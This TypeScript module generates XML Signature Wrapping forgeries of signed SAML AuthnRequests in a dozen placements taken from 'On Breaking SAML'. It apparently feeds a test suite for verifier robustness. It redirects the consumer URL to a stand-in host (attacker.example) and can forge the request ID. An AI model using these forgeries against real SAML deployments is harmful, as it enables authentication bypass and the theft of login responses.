// Signature wrapping: a signed AuthnRequest in, a document out that a careless reader takes for signed
// although its root is forged. The places are those of "On Breaking SAML" (Somorovsky and others,
// USENIX Security 2012), carried over to a message whose root is what is signed.

import { SITE } from './build.ts'

type Parts = {
  /** The forged root: its head with Issuer, and what follows. */
  readonly head: string
  readonly tail: string
  readonly signature: string
  /** The genuine request, once without and once with its signature. */
  readonly bare: string
  readonly signed: string
}

const PLACES: Readonly<Record<string, (parts: Parts) => string>> = {
  'in-signature': ({ head, tail, signature, bare }) => {
    return head + beforeEnd(signature, bare) + tail
  },
  'in-object': ({ head, tail, signature, bare }) => {
    return head + beforeEnd(signature, `<ds:Object>${bare}</ds:Object>`) + tail
  },
  'in-key-info': ({ head, tail, signature, bare }) => {
    return head + beforeEnd(signature, `<ds:KeyInfo>${bare}</ds:KeyInfo>`) + tail
  },
  'after-signature': ({ head, tail, signature, bare }) => head + signature + bare + tail,
  'before-signature': ({ head, tail, signature, bare }) => head + bare + signature + tail,
  'in-extensions': ({ head, tail, signature, bare }) => {
    return `${head}${signature}<saml2p:Extensions>${bare}</saml2p:Extensions>${tail}`
  },
  'signed-in-extensions': ({ head, tail, signed }) => {
    return `${head}<saml2p:Extensions>${signed}</saml2p:Extensions>${tail}`
  },
  'signed-as-child': ({ head, tail, signed }) => head + signed + tail,
  'signed-with-copied-signature': ({ head, tail, signature, signed }) => {
    return `${head}${signature}<saml2p:Extensions>${signed}</saml2p:Extensions>${tail}`
  },
  'in-wrapper': ({ head, tail, signed }) => {
    return `<saml2p:W xmlns:saml2p="urn:oasis:names:tc:SAML:2.0:protocol">${head}${tail}${signed}</saml2p:W>`
  },
  'as-second-root': ({ head, tail, signed }) => head + tail + signed,
  'decoy-signature-in-front': ({ head, tail, signature, bare }) => {
    return head + beforeEnd(signature, `<ds:Object>${bare}</ds:Object>`) + signature + tail
  },
}

/** The forged document; `id` says whether its root repeats the genuine ID. */
export function wrap(xml: string, place: string, id: string): string {
  const signed = xml.replace(/^<\?xml[^>]*\?>/, '')
  const signature = /<ds:Signature .*<\/ds:Signature>/s.exec(signed)?.[0] ?? ''
  const bare = signed.replace(signature, '')
  const evil = bare
    .replace(SITE.acsUrl, 'https://attacker.example/acs')
    .replace(SITE.requestId, id === 'same-id' ? SITE.requestId : '_forged')
  const split = evil.indexOf('</saml2:Issuer>') + '</saml2:Issuer>'.length
  const put = PLACES[place]
  if (put === undefined) throw new Error(`there is no place "${place}" to wrap into`)
  return put({ head: evil.slice(0, split), tail: evil.slice(split), signature, bare, signed })
}

function beforeEnd(signature: string, content: string): string {
  return signature.replace(/<\/ds:Signature>$/, (end) => content + end)
}
